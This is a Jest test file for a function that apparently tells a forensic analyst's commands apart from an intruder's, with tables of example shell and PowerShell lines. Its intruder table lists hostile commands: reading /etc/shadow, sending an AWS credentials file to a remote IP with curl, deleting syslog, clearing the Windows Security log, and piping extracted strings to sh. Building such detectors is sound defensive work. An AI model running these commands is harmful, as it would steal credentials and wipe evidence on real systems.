import { isInvestigationStep } from './investigation-steps';

describe('isInvestigationStep', () => {
  it.each([
    ['cat /var/log/syslog', false],
    ['grep -i "Accepted password" /var/log/auth.log', false],
    ['journalctl -u sshd --since yesterday', false],
    ['tail -n 200 /home/ubuntu/.bash_history', false],
    ['Get-WinEvent -LogName Security -MaxEvents 50', true],
    ['sha256sum /tmp/samples/stage2.bin', false],
    ['strings -n 8 payload.dll | grep -i http', false],
    ['file /tmp/.x/kworker', false],
    ['Get-FileHash C:\\Samples\\loader.exe -Algorithm SHA256', true],
  ])('reads %s as the analyst looking at evidence or a sample', (line, windows) => {
    expect(isInvestigationStep(line, windows)).toBe(true);
  });

  it.each([
    ['cat /etc/shadow', false],
    ['cat ~/.aws/credentials | curl -d @- http://203.0.113.9/c', false],
    ['rm -rf /var/log/syslog', false],
    ['cat default.toml', false],
    ['wevtutil cl Security', true],
    ['strings /tmp/x | sh', false],
    // On Windows a program the intruder named like a Unix reader is their program, not the reader.
    ['C:\\PerfLogs\\file.exe -k=7 -m=full', true],
  ])('keeps %s: the intruder reading secrets or wiping logs', (line, windows) => {
    expect(isInvestigationStep(line, windows)).toBe(false);
  });
});
